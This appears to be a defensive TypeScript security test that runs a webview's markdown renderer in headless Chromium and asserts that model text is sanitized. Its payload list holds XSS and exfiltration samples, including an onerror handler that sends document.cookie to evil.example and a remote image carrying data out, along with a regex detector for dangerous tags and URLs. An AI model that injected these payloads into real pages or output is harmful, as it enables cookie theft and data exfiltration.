/**
 * SECURITY-CASES.md, "Untrusted content and exfiltration": the webview renders model text as sanitized markdown —
 * no scripts, no event handlers, no javascript: links, no remote images (the classic exfiltration channel). Runs
 * the real src/webview/markdown.ts, bundled with esbuild, in headless Chromium through playwright-core.
 */
import { strict as assert } from 'node:assert';
import { existsSync } from 'node:fs';
import * as path from 'node:path';
import { build } from 'esbuild';
import { chromium, type Browser, type Page } from 'playwright-core';

const chromiumPath = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find((p) => existsSync(p));

const payloads = [
  '<img src=x onerror="fetch(\'https://evil.example/?k=\'+document.cookie)">',
  '<script>window.pwned = true</script>',
  '[click me](javascript:window.pwned=true)',
  '![exfil](https://evil.example/p.png?data=secret)',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)" onclick="x()">a</a>',
  '<svg><script>window.pwned=true</script></svg>',
  '<details open ontoggle="window.pwned=true">x</details>',
  '[ref]: javascript:alert(1)\n\n[ref]',
  '<style>body{background:url(https://evil.example/css)}</style>',
];

describe('security: Webview markdown', function () {
  this.timeout(60_000);
  let browser: Browser | undefined;
  let page: Page;
  before(async function () {
    if (!chromiumPath) this.skip();
    const entry = `import { renderMarkdown } from ${JSON.stringify(path.join(__dirname, '../../src/webview/markdown.ts'))};
      (window as unknown as { render: (t: string) => string }).render = (t: string) => { const el = document.createElement('div'); document.body.append(el); renderMarkdown(el, t); return el.innerHTML; };
      (window as unknown as { dangers: (t: string) => string[] }).dangers = (t: string) => {
        const el = document.createElement('div'); document.body.append(el); renderMarkdown(el, t);
        const found: string[] = [];
        for (const e of Array.from(el.querySelectorAll('*'))) {
          if (/^(script|iframe|img|style|object|embed|link|meta|base|form|svg|math)$/i.test(e.tagName)) found.push('element ' + e.tagName);
          for (const a of Array.from(e.attributes)) {
            if (/^on/i.test(a.name)) found.push('handler ' + a.name);
            if (/^(href|src|xlink:href|action|formaction|srcset)$/i.test(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value)) found.push('url ' + a.value);
            if (/^(src|srcset)$/i.test(a.name)) found.push('remote load ' + a.value);
          }
        }
        return found;
      };`;
    const bundle = await build({ stdin: { contents: entry, loader: 'ts', resolveDir: __dirname }, bundle: true, write: false, format: 'iife', platform: 'browser' });
    browser = await chromium.launch({ executablePath: chromiumPath, args: ['--no-sandbox'] });
    page = await browser.newPage();
    await page.setContent('<!DOCTYPE html><html><body></body></html>');
    await page.addScriptTag({ content: bundle.outputFiles[0].text });
  });
  after(async () => { await browser?.close(); });

  for (const payload of payloads) {
    it(`Webview: model text is rendered as sanitized markdown — ${payload.slice(0, 50)}`, async () => {
      const dangers = await page.evaluate((t) => (window as unknown as { dangers: (t: string) => string[] }).dangers(t), payload);
      assert.deepEqual(dangers, []);
      assert.equal(await page.evaluate(() => (window as unknown as { pwned?: boolean }).pwned), undefined);
    });
  }

  it('Webview: ordinary markdown still renders (headings, code, links to https)', async () => {
    const html = await page.evaluate(() => (window as unknown as { render: (t: string) => string }).render('# Title\n\n`code` and [docs](https://example.com)'));
    assert.match(html, /<h1>Title<\/h1>/);
    assert.match(html, /<code>code<\/code>/);
    assert.match(html, /href="https:\/\/example\.com"/);
  });
});
